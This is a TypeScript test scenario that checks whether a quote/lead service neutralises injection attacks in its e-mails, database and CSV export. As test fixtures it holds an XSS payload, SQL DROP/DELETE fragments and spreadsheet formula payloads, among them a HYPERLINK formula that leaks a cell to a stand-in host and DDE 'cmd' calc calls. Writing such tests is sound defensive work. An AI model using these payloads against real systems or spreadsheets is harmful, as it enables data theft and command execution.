import { makeLead, postQuote } from '../lib/client';
import type { Context, Scenario } from '../lib/context';
import { withClient } from '../lib/pg';
import { freePort, runCli, sleep, startServer, tempDir, until } from '../lib/proc';
import { mimePart, SmtpCapture } from '../lib/receivers';

/** RFC 4180 rows (quoted cells, doubled quotes, CRLF or LF line ends). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n' || char === '\r') {
      if (char === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const xss = '<img src=x onerror=alert(1)>';
const formulas = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Bob;=1+1',
];
const sqlName = "Robert'); DROP TABLE quote_submissions;--";
const sqlEmail = "o'reilly+x@example.com";
const sqlCampaign = "1' OR '1'='1'; --";
const sqlTerm = "'; DELETE FROM lead_notifications WHERE '1'='1";

/**
 * 6. Injection: a lead named `<img src=x onerror=alert(1)>` arrives escaped in the agent's e-mail
 * (captured by smtp-server); `=HYPERLINK(...)` and other formula starts are neutralised in the CSV
 * export (`npm run cli -- leads export --format csv`); SQL fragments are stored verbatim.
 */
export const injection: Scenario = {
  name: 'injection',
  quick: true,
  async run(ctx: Context) {
    const report = ctx.report('injection');
    const databaseUrl = await ctx.database('injection');
    const smtp = new SmtpCapture(await freePort());
    await smtp.start();
    const server = await startServer({
      env: {
        DATABASE_URL: databaseUrl,
        DATA_DIR: tempDir('injection-data'),
        LEAD_CHANNELS: 'smtp',
        SMTP_URL: smtp.url,
        LEAD_MAIL_TO: 'agent@example.com',
        LEAD_MAIL_FROM: 'leads@example.com',
        QUOTE_RATE_LIMIT: '1000/1m',
        OUTBOX_POLL_MS: '100',
      },
    });
    try {
      const leads = [
        makeLead('xss', { name: xss }),
        ...formulas.map((name) => makeLead('formula', { name })),
        makeLead('sql', {
          name: sqlName,
          email: sqlEmail,
          attribution: { utm_campaign: sqlCampaign, utm_term: sqlTerm, referrer: xss },
        }),
      ];
      const ids: string[] = [];
      for (const lead of leads) {
        const answer = await postQuote(server.url, lead);
        report.equal(answer.status, 201, `the lead named ${String(lead.name)}`);
        ids.push(answer.status === 201 ? (JSON.parse(answer.body) as { id: string }).id : '');
      }
      const [xssId = '', ...rest] = ids;
      const sqlId = rest[rest.length - 1] ?? '';

      // The e-mail: the name appears escaped in the HTML part, never as markup.
      await until(
        'every lead to be mailed',
        () => (smtp.mails.length >= leads.length ? true : undefined),
        20_000,
      ).catch(() => {});
      await sleep(300);
      const mail = smtp.mails.find((m) => m.leadId === xssId);
      const htmlPart = mail ? (mimePart(mail.raw, 'text/html') ?? '') : '';
      const textPart = mail ? (mimePart(mail.raw, 'text/plain') ?? '') : '';
      report.check(
        htmlPart.includes('&lt;img src=x onerror=alert(1)&gt;'),
        'the HTML part does not hold the escaped name',
      );
      report.check(!/<img/i.test(htmlPart), 'the HTML part holds an <img> element');
      report.check(
        textPart.includes(`Name (as typed): ${JSON.stringify(xss)}`),
        'the text part does not hold the name as text',
      );
      const subject = mail ? (/^Subject: (.*)$/m.exec(mail.raw)?.[1] ?? '') : '';
      report.check(subject !== '' && !subject.includes('<'), `the subject carries markup: ${subject}`);

      // SQL fragments: stored exactly as sent, and the tables are all there.
      const stored = await withClient(databaseUrl, async (db) => {
        const { rows } = await db.query<{
          name: string;
          email: string;
          utm_campaign: string;
          utm_term: string;
          referrer: string;
        }>('SELECT name, email, utm_campaign, utm_term, referrer FROM quote_submissions WHERE id = $1', [sqlId]);
        const counts = await db.query<{ leads: number; jobs: number }>(
          'SELECT (SELECT count(*)::int FROM quote_submissions) AS leads, (SELECT count(*)::int FROM lead_notifications) AS jobs',
        );
        return { row: rows[0], counts: counts.rows[0] };
      });
      report.equal(
        stored.row,
        { name: sqlName, email: sqlEmail, utm_campaign: sqlCampaign, utm_term: sqlTerm, referrer: xss },
        'the SQL-laden lead as stored',
      );
      report.equal(
        stored.counts,
        { leads: leads.length, jobs: leads.length },
        'leads and jobs after the SQL fragments',
      );

      // The CSV export, as staff run it: no cell starts a formula; the name is kept behind a quote mark.
      const csv = await runCli(['leads', 'export', '--format', 'csv'], { DATABASE_URL: databaseUrl });
      report.equal(csv.code, 0, `leads export exit code (stderr: ${csv.stderr.trim()})`);
      const rows = parseCsv(csv.stdout);
      const header = rows[0] ?? [];
      const nameColumn = header.indexOf('name');
      const exported = new Map(rows.slice(1).map((row) => [row[header.indexOf('id')] ?? '', row]));
      report.equal(exported.size, leads.length, 'leads in the CSV export');
      const dangerous = rows
        .flat()
        .filter((cell) => !cell.startsWith("'") && (/^\s*[=+\-@\t\r|]/.test(cell) || cell.includes(';')));
      report.equal(dangerous, [], 'CSV cells that a spreadsheet would run as a formula');
      formulas.forEach((name, index) => {
        report.equal(exported.get(ids[index + 1] ?? '')?.[nameColumn], `'${name}`, 'a formula name in the CSV');
      });
      // It holds a ";": a spreadsheet splitting on semicolons would start a cell there, so it is neutralised too.
      report.equal(exported.get(sqlId)?.[nameColumn], `'${sqlName}`, 'the SQL-laden name in the CSV');
      report.equal(exported.get(xssId)?.[nameColumn], xss, 'the markup name in the CSV (text, not HTML)');

      report.set({
        sent: leads.length,
        acknowledged: ids.filter(Boolean).length,
        stored: stored.counts?.leads ?? 0,
        notified: new Set(smtp.mails.map((m) => m.leadId)).size,
        lost: leads.length - new Set(smtp.mails.map((m) => m.leadId)).size,
        doubled: smtp.mails.length - new Set(smtp.mails.map((m) => m.leadId)).size,
      });
      report.note(
        `e-mail HTML shows &lt;img src=x onerror=alert(1)&gt;; ${formulas.length} formula names exported behind '; ${dangerous.length} dangerous CSV cells; SQL fragments stored verbatim (${stored.counts?.leads} leads, ${stored.counts?.jobs} jobs intact)`,
      );
    } finally {
      await server.stop();
      await smtp.stop();
    }
  },
};
